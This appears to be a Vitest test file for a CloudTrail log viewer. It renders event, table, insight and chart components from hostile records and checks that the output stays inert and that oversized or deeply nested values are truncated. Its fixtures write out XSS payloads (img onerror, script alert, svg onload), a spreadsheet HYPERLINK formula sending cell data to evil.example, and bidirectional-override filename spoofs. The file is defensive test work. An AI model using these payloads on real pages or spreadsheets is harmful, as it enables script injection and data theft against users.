import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import type { ReactElement } from "react";
import { renderToString } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { chartSeries } from "@/components/charts/chart-series";
import { ChartTooltipBox } from "@/components/charts/chart-tooltip";
import { FindingBadges } from "@/components/detections/finding-badges";
import { CompareTable } from "@/components/event-detail/compare-table";
import { EventDetail } from "@/components/event-detail/event-detail";
import { EventsTable } from "@/components/events-table/events-table";
import { InsightAttributions } from "@/components/insights/insight-attributions";
import { InsightDetail } from "@/components/insights/insight-detail";
import { InsightsTable } from "@/components/insights/insights-table";
import { UnreadableRecords } from "@/components/insights/unreadable-records";
import { ActivityTable } from "@/components/overview/activity-table";
import { FindingsPanel } from "@/components/overview/findings-panel";
import { TopList } from "@/components/overview/top-list";
import { ActivityAggregator } from "@/lib/activity/activity-aggregator";
import { evaluateDetections } from "@/lib/detections/evaluate";
import { describeIdentity } from "@/lib/events/describe-identity";
import { diffRecords } from "@/lib/events/record-diff";
import { SHOWN_DEPTH } from "@/lib/events/record-depth";
import type { Insight } from "@/lib/insights/insight";
import { summarizeFindings } from "@/lib/overview/findings-summary";
import { BUILTIN_COLUMN_IDS } from "@/lib/view/columns";
import { hostileEvent, hostileTrailEvents } from "@/test/hostile-events";

/**
 * Every view of an event, rendered on the server from the hostile records of
 * test/fixtures/hostile-records.json (markup, script URLs, bidirectional overrides, 200,000
 * characters, 5,000 levels of nesting). React's HTML escapes every "<" that is not a tag of
 * its own, so the tags and attributes read here are all the page would have.
 */

const events = hostileTrailEvents();

function render(element: ReactElement): string {
  return renderToString(
    <QueryClientProvider client={new QueryClient()}>{element}</QueryClientProvider>,
  ).replaceAll("<!-- -->", "");
}

/** The tags of the HTML, with their attributes (values unescaped). */
function tags(html: string): { name: string; attributes: Map<string, string> }[] {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, name, attributes]) => ({
      name: name.toLowerCase(),
      attributes: new Map(
        [...attributes.matchAll(/([^\s=/>]+)(?:="([^"]*)")?/g)].map(([, key, value = ""]) => [
          key.toLowerCase(),
          value
            .replaceAll("&quot;", '"')
            .replaceAll("&#x27;", "'")
            .replaceAll("&lt;", "<")
            .replaceAll("&gt;", ">")
            .replaceAll("&amp;", "&"),
        ]),
      ),
    }),
  );
}

/** What a hostile record must never achieve in the HTML of a view. */
function expectHarmless(html: string) {
  const found = tags(html);
  const names = new Set(found.map((tag) => tag.name));
  for (const name of ["script", "img", "iframe", "style", "marquee", "object", "embed", "b"]) {
    expect(names.has(name), `a <${name}> element`).toBe(false);
  }
  for (const { name, attributes } of found) {
    for (const [attribute, value] of attributes) {
      expect(attribute.startsWith("on"), `<${name} ${attribute}>`).toBe(false);
      if (["href", "src", "action", "formaction", "xlink:href"].includes(attribute)) {
        expect(value.trim(), `<${name} ${attribute}>`).not.toMatch(/^(javascript|data|vbscript):/i);
      }
    }
  }
  // No hidden character drawn raw, in text or attributes. Links are left out: a URL is not
  // drawn, and a browser percent-encodes it before use. The JSON view's line breaks are its own.
  const drawn = html.replaceAll(/ href="[^"]*"/g, "").replaceAll("\n", "");
  expect(drawn).not.toMatch(
    /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u00A0\u200B-\u200F\u202A-\u202E\u2060-\u2069\u2028\u2029\uFEFF]|\uDB40[\uDC00-\uDC7F]/,
  );
}

describe("hostile records", () => {
  it("are read with their values intact", () => {
    expect(events.map((event) => event.name)).toEqual([
      `<img src=x onerror="window.__pwned('eventName')">`,
      "PutBucketWebsite",
      "StopLogging",
      "PutBucketTagging",
      "PutBucketPolicy",
      `=HYPERLINK("https://evil.example/?leak="&A1,"Open report")`,
      "DeleteBucket\u202E\u2066gnp.tnemhcatta\u2069",
    ]);
    expect(hostileEvent(events, "PutBucketPolicy").recordText).toBeDefined();
  });

  it("show in an event's detail as text, marked, cut and isolated", () => {
    for (const event of events) {
      for (const compact of [false, true]) {
        const html = render(<EventDetail event={event} compact={compact} />);
        expectHarmless(html);
        expect(html).toContain("Full record");
      }
    }
    const xss = render(<EventDetail event={events[0]} />);
    expect(xss).toContain("&lt;script&gt;window.__pwned(&#x27;userName&#x27;)&lt;/script&gt;");

    const bidi = render(<EventDetail event={hostileEvent(events, "StopLogging")} />);
    expect(bidi).toContain("admin<span");
    expect(bidi).toContain("⟨U+202E⟩</span>gnp.exe");
    // In the JSON view, as JSON's own escape of the character.
    expect(bidi).toMatch(/admin<\/span><span class="[^"]*">\\u202e<\/span>/);
    expect(bidi).toContain("CloudTrail logging tampered with");

    const long = hostileEvent(events, "PutBucketTagging");
    const longHtml = render(<EventDetail event={long} />);
    expect(longHtml).toContain("Show all 200,000 characters");
    expect(longHtml).toContain("Show all 10,000 characters");
    expect(longHtml).toContain("167,232 more characters not shown");
    expect(longHtml.length).toBeLessThan(150_000);

    const deep = render(<EventDetail event={hostileEvent(events, "PutBucketPolicy")} />);
    expect(deep).toContain(`nested more than ${SHOWN_DEPTH} levels deep: not shown`);
  });

  it("show in the events table, one short line per cell", () => {
    const html = render(
      <EventsTable
        events={events}
        findings={evaluateDetections(events)}
        columns={[...BUILTIN_COLUMN_IDS, "requestParameters.bucketName"]}
        sort="eventTime"
        order="desc"
        timeZone="utc"
        label="Events"
        openEvent={null}
        eventHref={(ref) => `/events?event=${ref.region}:${ref.id}`}
        onOpenEvent={() => {}}
        onSortChange={() => {}}
        onColumnsChange={() => {}}
        selected={[]}
        onSelectedChange={() => {}}
      />,
    );
    expectHarmless(html);
    expect(html).toContain("DeleteBucket<span");
    // Cells draw 300 characters of the 10,000-character name, titles 1,000.
    expect(html).not.toContain("A1b2C3d4E5f6G7h8".repeat(70));
    expect(html.length).toBeLessThan(120_000);
  });

  it("compare side by side, the too-deep part shown as such", () => {
    const rows = diffRecords(events.map((event) => event.record));
    const html = render(
      <CompareTable
        columns={events.map((event) => ({
          id: event.id,
          region: event.region,
          name: event.name,
          time: event.time,
          who: describeIdentity(event).who,
          href: `/events/${event.region}/${event.id}`,
        }))}
        rows={rows}
        timeZone="utc"
      />,
    );
    expectHarmless(html);
    expect(html).toContain("⟨nested too deeply to show⟩");
    expect(html).toContain("⟨U+202E⟩");
  });

  it("show in the Overview's top lists, chart table and tooltip, and findings", () => {
    const times = events.map((event) => Date.parse(event.time));
    const activity = new ActivityAggregator(
      Math.min(...times) - 60_000,
      Math.max(...times) + 60_000,
    )
      .addAll(events)
      .snapshot();
    for (const [title, values] of Object.entries(activity.top)) {
      const html = render(
        <TopList
          title={title}
          valueLabel="Value"
          values={values}
          colorIndex={0}
          empty="None"
          onDrill={() => {}}
        />,
      );
      expectHarmless(html);
    }
    for (const dimension of ["source", "name", "user"] as const) {
      const series = chartSeries(activity, dimension);
      expectHarmless(
        render(
          <ActivityTable
            activity={activity}
            series={series}
            dimension={dimension}
            tz="utc"
            onDrill={() => {}}
            onZoom={() => {}}
          />,
        ),
      );
      expectHarmless(
        render(
          <ChartTooltipBox
            title="04:10:00 – 04:10:10"
            rows={series.map((s) => ({ label: s.key, value: s.total, color: s.color }))}
          />,
        ),
      );
    }
    const findings = evaluateDetections(events);
    const summary = summarizeFindings(events, findings);
    expect(summary.map((finding) => finding.ruleId)).toContain("cloudtrail-tampering");
    const panel = render(
      <FindingsPanel findings={summary} tz="utc" eventsHref={() => "/events"} partial={false} />,
    );
    expectHarmless(panel);
    expect(panel).toContain("admin<span");
    for (const event of events) {
      expectHarmless(render(<FindingBadges findings={findings.get(event.id)} />));
    }
  });

  it("show in Insights as text", () => {
    const insight: Insight = {
      id: "0b5e55ed-0000-4000-8000-000000000099",
      region: "us-east-2",
      type: "ApiErrorRateInsight",
      eventSource: "<svg onload=alert(1)>.amazonaws.com",
      eventName: "Get\u202EtekcuB<img src=x onerror=alert(1)>",
      errorCode: "<script>alert(1)</script>",
      start: "2026-11-19T04:00:00Z",
      end: "2026-11-19T04:20:00Z",
      baselineAverage: 0.01,
      insightAverage: 4.2,
      attributions: [
        {
          attribute: "userIdentityArn",
          values: [{ value: "arn:aws:iam::1:user/\u2066<b>x</b>\u2069", insightAverage: 4 }],
        },
        {
          attribute: "userAgent",
          values: [{ value: "javascript:alert(1)//\u202E", insightAverage: 4 }],
        },
      ],
    };
    const table = render(
      <InsightsTable
        insights={[insight]}
        timeZone="utc"
        openRef={null}
        hrefFor={(ref) => `/insights?insight=${ref.region}:${ref.id}`}
        onOpen={() => {}}
      />,
    );
    expectHarmless(table);
    expect(table).toContain("Get<span");
    expectHarmless(render(<InsightAttributions insight={insight} />));
    expectHarmless(render(<InsightDetail insight={insight} timeZone="utc" onClose={() => {}} />));
    const unreadable = render(
      <UnreadableRecords
        records={[
          {
            region: "us-east-2",
            eventId: insight.id,
            time: insight.start,
            problem:
              "its insightType “<img src=x onerror=alert(1)>\u202E” is not one CloudTrail writes",
          },
        ]}
        timeZone="utc"
      />,
    );
    expectHarmless(unreadable);
    expect(unreadable).toContain("⟨U+202E⟩");
  });
});
